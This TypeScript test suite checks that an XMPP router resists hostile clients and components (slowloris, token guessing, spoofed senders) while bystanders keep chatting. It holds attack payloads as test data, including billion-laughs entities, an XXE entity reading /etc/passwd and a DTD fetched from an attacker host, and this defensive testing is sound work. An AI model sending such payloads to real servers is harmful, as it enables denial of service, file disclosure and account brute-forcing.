// Hostile clients and components against one router: slowloris streams, token guessing from
// one address and at one account from many, DTDs and entities, nesting and attributes over
// the limits, spoofed senders, and a component speaking for a domain it does not own. Each
// test checks the stream error the attacker gets and that two other users of the same node
// keep chatting. Raw sockets bind to distinct loopback addresses so each test's failed logins
// are counted apart.
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { RouterConfig } from '../../apps/router/src/config-sync';
import { connectComponent, type ComponentPeer } from '../support/component-peer';
import { RawStream, streamOpen } from '../support/raw-stream';
import { startCluster, until, type Cluster } from '../support/router-cluster';
import { testTls } from '../support/test-tls';
import { JWT_SECRET, jwtFor, xml, XmppTestClient } from '../support/xmpp-client';

const DC1 = 'dc1.example.com';
const NS_SASL = 'urn:ietf:params:xml:ns:xmpp-sasl';
const NS_REPLACE = 'urn:meridian:c2s:replace:0';
const COMPONENT_SECRET = 'component-secret-of-some-length';
const SPOOFERS = ['spoof1', 'spoof2', 'spoof3', 'spoof4', 'spoof5'].map(
  (name) => `${name}.example.com`,
);
const LIMITS = {
  maxStanzaBytes: 16_384,
  preAuthStanzaBytes: 4096,
  maxDepth: 12,
  maxAttributes: 16,
  maxAttributeBytes: 1024,
  authTimeoutS: 2,
};

let cluster: Cluster;
const clients: XmppTestClient[] = [];
const peers: ComponentPeer[] = [];

async function login(username: string, resource: string, token?: string) {
  const client = await XmppTestClient.connect({
    port: cluster.node(DC1).c2sPort,
    username,
    resource,
    token,
  });
  clients.push(client);
  return client;
}

/** Both directions deliver: the two clients still chat. */
async function stillChatting(a: XmppTestClient, b: XmppTestClient, tag: string): Promise<void> {
  const before = [a.bodies().length, b.bodies().length];
  await a.message(b.jid, `${tag} a->b`);
  await b.message(a.jid, `${tag} b->a`);
  await b.waitForBodies(before[1]! + 1, 20_000);
  await a.waitForBodies(before[0]! + 1, 20_000);
  expect(b.bodies().at(-1)).toBe(`${tag} a->b`);
  expect(a.bodies().at(-1)).toBe(`${tag} b->a`);
}

/** Two users of the node who chat before, during and after each attack. */
async function bystanders(tag: string): Promise<[XmppTestClient, XmppTestClient]> {
  const alice = await login(`alice-${tag}`, 'a');
  const bob = await login(`bob-${tag}`, 'b');
  await stillChatting(alice, bob, `${tag} before`);
  return [alice, bob];
}

/** A revision with these limits, applied by the node before it resolves. */
async function withLimits(limits: Partial<typeof LIMITS>): Promise<void> {
  const revision = await cluster.publish((doc) => Object.assign(doc.limits, limits));
  const config = cluster.node(DC1).app.get(RouterConfig);
  await until(() => config.snapshot.revision === revision, 5_000, `revision ${revision}`);
}

beforeAll(async () => {
  cluster = await startCluster(
    { [DC1]: ['n1'] },
    (doc) => {
      doc.auth.jwt.secret = JWT_SECRET;
      Object.assign(doc.limits, LIMITS);
      doc.components = SPOOFERS.map((domain) => ({
        domain,
        secret: COMPONENT_SECRET,
        hidden: false,
      }));
    },
    { tls: testTls() },
  );
});

afterEach(async () => {
  await Promise.all(clients.splice(0).map((c) => c.stop()));
  await Promise.all(peers.splice(0).map((p) => p.stop()));
  RawStream.closeAll();
});

afterAll(async () => {
  await cluster?.close();
});

describe('slowloris', () => {
  it('cuts off a client that never finishes its stream header or its login (connection-timeout)', async () => {
    const [alice, bob] = await bystanders('slow');
    const port = cluster.node(DC1).c2sPort;
    const header = await RawStream.open(port, { localAddress: '127.0.0.31' });
    const login = await RawStream.open(port, { localAddress: '127.0.0.31' });
    login.write(streamOpen());
    await login.until(/<\/stream:features>/);
    // The header stops inside its start tag, the login inside <auth/>: then one character at
    // a time (blanks inside the tag, base64 in the element), far below every size bound, for
    // longer than authTimeoutS.
    const opening = streamOpen();
    header.write(opening.slice(0, opening.indexOf(' xmlns=')));
    login.write(`<auth xmlns='${NS_SASL}' mechanism='PLAIN'>`);
    let dripping = true;
    const drip = (async () => {
      while (dripping) {
        header.write(' ');
        login.write('A');
        await new Promise((resolve) => setTimeout(resolve, 100));
      }
    })();
    try {
      await stillChatting(alice, bob, 'slow during');
      expect(await header.until(/<\/stream:stream>/, 15_000)).toContain('<connection-timeout');
      expect(await login.until(/<\/stream:stream>/, 15_000)).toContain('<connection-timeout');
      await header.waitClosed();
      await login.waitClosed();
    } finally {
      dripping = false;
      await drip;
    }
    await stillChatting(alice, bob, 'slow after');
  });

  it('cuts off a logged-in client that never finishes a stanza once it passes maxStanzaBytes (policy-violation)', async () => {
    const [alice, bob] = await bystanders('endless');
    const mallory = await login('mallory-endless', 'x');
    await mallory.xmpp.write(`<message to='${bob.jid}' type='chat'><body>`);
    const chunk = 'y'.repeat(1024);
    let sent = 0;
    const cap = 40 * LIMITS.maxStanzaBytes;
    while (mallory.errors.length === 0 && sent < cap) {
      const written = await mallory.xmpp.write(chunk).then(
        () => true,
        () => false,
      );
      if (!written) break;
      sent += chunk.length;
      // Lets the server's answer in between writes.
      await new Promise((resolve) => setImmediate(resolve));
    }
    expect(await mallory.streamError(20_000)).toBe('policy-violation');
    // Refused long before the client gave up writing.
    expect(sent).toBeLessThan(cap);
    await stillChatting(alice, bob, 'endless after');
    expect(bob.bodies().every((body) => !body.startsWith('yyy'))).toBe(true);
  });
  it('keeps a logged-in client that only sends whitespace keepalives, more than maxStanzaBytes of them', async () => {
    const [alice, bob] = await bystanders('keepalive');
    const idle = await login('idle-keepalive', 'x');
    for (let i = 0; i < 100; i++) await idle.xmpp.write(i % 2 ? ' '.repeat(300) : '\n'.repeat(300));
    // 30,000 blanks, well over maxStanzaBytes and a tokenizer slice: the session lives on.
    await stillChatting(idle, bob, 'keepalive idle');
    expect(idle.errors).toEqual([]);
    await stillChatting(alice, bob, 'keepalive after');
  });
});

describe('token guessing', () => {
  it('delays failures from one address more each time and ends the stream after 3 (policy-violation)', async () => {
    const [alice, bob] = await bystanders('guess');
    const stream = await secureStream(cluster.node(DC1).c2sPort, '127.0.0.41');
    const waits: number[] = [];
    for (let i = 0; i < 3; i++) {
      // A different account each time: only the address is the same.
      waits.push(await failedLogin(stream, `guess-${i}`, `wrong-token-${i}`));
    }
    expect(await stream.until(/<\/stream:stream>/)).toContain('<policy-violation');
    await stream.waitClosed();
    // 100, 200 and 400 ms (at least: a loaded machine only adds).
    expect(waits[1]).toBeGreaterThanOrEqual(180);
    expect(waits[2]).toBeGreaterThanOrEqual(380);
    expect(waits[2]).toBeGreaterThan(waits[0]!);
    await stillChatting(alice, bob, 'guess after');
  });

  it('delays failures at one account more each time, from however many addresses', async () => {
    const [alice, bob] = await bystanders('account');
    const port = cluster.node(DC1).c2sPort;
    const waits: number[] = [];
    for (let i = 0; i < 5; i++) {
      // A fresh address for every guess: only the account is the same.
      const stream = await secureStream(port, `127.0.0.${51 + i}`);
      waits.push(await failedLogin(stream, 'Victim', `guess-${i}`));
      stream.close();
    }
    // 100, 200, 400, 800, 1600 ms.
    expect(waits[3]).toBeGreaterThanOrEqual(780);
    expect(waits[4]).toBeGreaterThanOrEqual(1580);
    // Another account from a fresh address is answered after the base delay only.
    const fresh = await secureStream(port, '127.0.0.61');
    const other = await failedLogin(fresh, 'bystander-account', 'guess');
    expect(other).toBeLessThan(waits[4]!);
    // The owner, with the right token, is not locked out.
    const victim = await login('victim', 'home');
    expect(victim.jid).toBe('victim@example.com/home');
    await stillChatting(alice, bob, 'account after');
  });

  it('answers 40 parallel guesses from one address two at a time; the rest get temporary-auth-failure unchecked', async () => {
    const [alice, bob] = await bystanders('parallel');
    // Long enough for the line (5 s at most) to end the wait, not the login timeout.
    await withLimits({ authTimeoutS: 30 });
    const port = cluster.node(DC1).c2sPort;
    const streams = await Promise.all(
      Array.from({ length: 40 }, () => secureStream(port, '127.0.0.45')),
    );
    const started = performance.now();
    const answers = await Promise.all(
      streams.map(async (stream, i) => {
        const plain = Buffer.from(`\u0000parallel-${i}\u0000wrong-token`).toString('base64');
        stream.write(`<auth xmlns='${NS_SASL}' mechanism='PLAIN'>${plain}</auth>`);
        const text = await stream.until(/<\/failure>/, 20_000);
        const condition = /<failure[^>]*><([a-z-]+)\/>/.exec(text)![1]!;
        return { condition, ms: performance.now() - started };
      }),
    );
    const checked = answers.filter((a) => a.condition === 'not-authorized');
    const refused = answers.filter((a) => a.condition === 'temporary-auth-failure');
    expect(checked.length + refused.length).toBe(40);
    // Two places, each failure holding one through its delay (100, 200, 400, ... 2000 ms):
    // about 8 tokens checked in the 5 s an attempt may wait in line. Answered all together
    // after one delay, all 40 would have been checked within 2 s.
    expect(checked.length).toBeLessThanOrEqual(10);
    const lastChecked = Math.max(...checked.map((a) => a.ms));
    expect(lastChecked).toBeGreaterThanOrEqual(checked.length * 100 - 50);
    expect(Math.max(...answers.map((a) => a.ms))).toBeGreaterThanOrEqual(4_900);
    await withLimits({ authTimeoutS: LIMITS.authTimeoutS });
    await stillChatting(alice, bob, 'parallel after');
  });

  it('logs in 50 accounts in parallel from one address without a refusal', async () => {
    const started = performance.now();
    const users = await Promise.all(Array.from({ length: 50 }, (_, i) => login(`nat-${i}`, 'x')));
    expect(users.every((user) => user.jid.startsWith('nat-'))).toBe(true);
    // TLS and five round trips each, on a shared machine; no failure delay in them.
    expect(performance.now() - started).toBeLessThan(15_000);
  });

  it('refuses logging in as one account on behalf of another (invalid-authzid)', async () => {
    const [alice, bob] = await bystanders('authzid');
    const stream = await secureStream(cluster.node(DC1).c2sPort, '127.0.0.71');
    const token = await jwtFor('mallory');
    const plain = Buffer.from(`${alice.jid.split('/')[0]}\u0000mallory\u0000${token}`);
    stream.write(`<auth xmlns='${NS_SASL}' mechanism='PLAIN'>${plain.toString('base64')}</auth>`);
    expect(await stream.until(/<\/failure>/)).toContain('<invalid-authzid/>');
    expect(stream.text).not.toContain('<success');
    await stillChatting(alice, bob, 'authzid after');
  });
});

describe('XML tricks', () => {
  const laughs =
    `<!DOCTYPE lolz [<!ENTITY lol "lol">` +
    `<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">` +
    `<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>`;

  it('refuses a DOCTYPE with entity declarations before the stream header (restricted-xml)', async () => {
    const [alice, bob] = await bystanders('dtd');
    const raw = await RawStream.open(cluster.node(DC1).c2sPort, { localAddress: '127.0.0.81' });
    raw.write(`<?xml version='1.0'?>${laughs}${streamOpen().replace(/^<\?xml[^>]*>/, '')}`);
    expect(await raw.until(/<\/stream:stream>/)).toContain('<restricted-xml');
    await raw.waitClosed();
    await stillChatting(alice, bob, 'dtd after');
  });

  const cases: [string, (to: string) => string, string][] = [
    [
      'a billion-laughs DTD',
      (to) => `${laughs}<message to='${to}'><body>&lol3;</body></message>`,
      'restricted-xml',
    ],
    [
      'an external entity',
      (to) =>
        `<!DOCTYPE m [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><message to='${to}'><body>&xxe;</body></message>`,
      'restricted-xml',
    ],
    [
      'a parameter entity from elsewhere',
      () => `<!DOCTYPE m [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd">%p;]>`,
      'restricted-xml',
    ],
    [
      'an undefined entity',
      (to) => `<message to='${to}' type='chat'><body>&xxe;</body></message>`,
      'not-well-formed',
    ],
    [
      'a character reference to no character',
      (to) => `<message to='${to}' type='chat'><body>&#x0;</body></message>`,
      'not-well-formed',
    ],
    [
      'nesting deeper than limits.maxDepth',
      (to) =>
        `<message to='${to}' type='chat'><body>deep</body>` +
        '<x>'.repeat(LIMITS.maxDepth) +
        '</x>'.repeat(LIMITS.maxDepth) +
        '</message>',
      'policy-violation',
    ],
    [
      'an attribute over limits.maxAttributeBytes',
      (to) =>
        `<message to='${to}' type='chat' id='${'i'.repeat(LIMITS.maxAttributeBytes + 1)}'><body>big</body></message>`,
      'policy-violation',
    ],
    [
      'more attributes than limits.maxAttributes',
      (to) =>
        `<message to='${to}' type='chat'` +
        Array.from({ length: LIMITS.maxAttributes }, (_, i) => ` a${i}='${i}'`).join('') +
        `><body>many</body></message>`,
      'policy-violation',
    ],
  ];

  for (const [what, stanza, condition] of cases) {
    it(`ends a logged-in stream sending ${what} (${condition}) and delivers nothing of it`, async () => {
      const tag = what.replace(/[^a-z]+/g, '-');
      const [alice, bob] = await bystanders(tag);
      const mallory = await login(`mallory-${tag}`, 'x');
      await mallory.xmpp.write(stanza(bob.jid)).catch(() => undefined);
      expect(await mallory.streamError(15_000)).toBe(condition);
      await stillChatting(alice, bob, `${tag} after`);
      expect(bob.messages().filter((m) => m.attrs.from?.startsWith('mallory'))).toEqual([]);
      expect(bob.bodies().join('')).not.toContain('lol');
    });
  }

  it('delivers nesting at exactly limits.maxDepth', async () => {
    const [alice, bob] = await bystanders('depth-ok');
    // <message> is depth 1 and <body> depth 2: the <x> chain reaches maxDepth.
    const chain = LIMITS.maxDepth - 1;
    await alice.xmpp.write(
      `<message to='${bob.jid}' type='chat' id='deep-ok'><body>deep ok</body>` +
        '<x>'.repeat(chain) +
        '</x>'.repeat(chain) +
        '</message>',
    );
    const received = await bob.waitFor((s) => s.attrs.id === 'deep-ok', 'deep message');
    expect(received.attrs.from).toBe(alice.jid);
    await stillChatting(alice, bob, 'depth-ok after');
  });
});

describe('spoofed senders', () => {
  it('rewrites from to the sender session for messages, presences and iqs, whoever it names', async () => {
    const [alice, bob] = await bystanders('spoof');
    const mallory = await login('mallory-spoof', 'x');
    const pretended = [
      alice.jid,
      alice.jid.split('/')[0]!,
      bob.jid,
      'example.com',
      DC1,
      'admin@other.example',
    ];
    for (const [i, from] of pretended.entries()) {
      await mallory.send(
        xml(
          'message',
          { to: bob.jid, from, type: 'chat', id: `spoof-m${i}` },
          xml('body', {}, `as ${from}`),
        ),
      );
      await mallory.send(xml('presence', { to: bob.jid, from, id: `spoof-p${i}` }));
      await mallory.send(
        xml(
          'iq',
          { to: bob.jid, from, type: 'get', id: `spoof-i${i}` },
          xml('ping', { xmlns: 'urn:xmpp:ping' }),
        ),
      );
    }
    for (const [i] of pretended.entries()) {
      for (const id of [`spoof-m${i}`, `spoof-p${i}`, `spoof-i${i}`]) {
        const received = await bob.waitFor((s) => s.attrs.id === id, id);
        expect(received.attrs.from, id).toBe(mallory.jid);
      }
    }
    // An iq to the server naming another user as sender is answered to the real sender only.
    await mallory.send(
      xml(
        'iq',
        { to: 'example.com', from: alice.jid, type: 'get', id: 'spoof-server' },
        xml('ping', { xmlns: 'urn:xmpp:ping' }),
      ),
    );
    const result = await mallory.waitFor((s) => s.attrs.id === 'spoof-server', 'ping result');
    expect(result.attrs.type).toBe('result');
    await stillChatting(alice, bob, 'spoof after');
    expect(alice.received.some((s) => s.attrs.id === 'spoof-server')).toBe(false);
    expect(alice.received.some((s) => s.attrs.id?.startsWith('spoof-'))).toBe(false);
  });

  it("ignores a client's forged replace notice: the session it names stays online", async () => {
    const [alice, bob] = await bystanders('replace');
    const mallory = await login('mallory-replace', 'x');
    for (const from of [`${DC1}/forged`, DC1, 'example.com']) {
      await mallory.send(
        xml(
          'presence',
          { to: bob.jid, from, type: 'unavailable', id: 'forged-replace' },
          xml('replace', { xmlns: NS_REPLACE }),
        ),
      );
    }
    await stillChatting(alice, bob, 'replace after');
    expect(bob.errors).toEqual([]);
    expect(bob.online).toBe(true);
    expect(bob.received.some((s) => s.attrs.id === 'forged-replace')).toBe(false);
  });

  it('ends a component sending from a domain it does not own (invalid-from) and routes nothing', async () => {
    const [alice, bob] = await bystanders('component');
    const pretended = [
      alice.jid,
      'example.com',
      DC1,
      `x.${SPOOFERS[3]!}.evil.example`,
      `user@${SPOOFERS[0]!}.evil.example`,
    ];
    for (const [i, from] of pretended.entries()) {
      const domain = SPOOFERS[i]!;
      const peer = await connectComponent(cluster.node(DC1), domain, COMPONENT_SECRET, {
        echo: false,
      });
      peers.push(peer);
      await peer.send(
        xml(
          'message',
          { from, to: bob.jid, type: 'chat', id: `component-spoof-${i}` },
          xml('body', {}, `as ${from}`),
        ),
      );
      expect(await peer.waitForError(15_000), from).toBe('invalid-from');
    }
    await stillChatting(alice, bob, 'component after');
    expect(bob.received.some((s) => s.attrs.id?.startsWith('component-spoof-'))).toBe(false);
  });
});

// ---- helpers ----------------------------------------------------------------------------

/** A raw stream from a chosen loopback address, past STARTTLS up to the features over TLS. */
async function secureStream(port: number, localAddress: string): Promise<RawStream> {
  const secure = await (await RawStream.open(port, { localAddress })).startTls();
  await secure.until(/<\/stream:features>/);
  return secure;
}

/** A PLAIN login that fails; resolves with how long the failure took to come (ms). */
async function failedLogin(stream: RawStream, username: string, token: string): Promise<number> {
  const failures = (stream.text.match(/<\/failure>/g) ?? []).length;
  const plain = Buffer.from(`\u0000${username}\u0000${token}`).toString('base64');
  const started = performance.now();
  stream.write(`<auth xmlns='${NS_SASL}' mechanism='PLAIN'>${plain}</auth>`);
  await until(
    () => (stream.text.match(/<\/failure>/g) ?? []).length > failures,
    15_000,
    `failure ${failures + 1} for ${username}`,
  );
  const waited = performance.now() - started;
  expect(stream.text.slice(stream.text.lastIndexOf('<failure'))).toContain('<not-authorized/>');
  return waited;
}
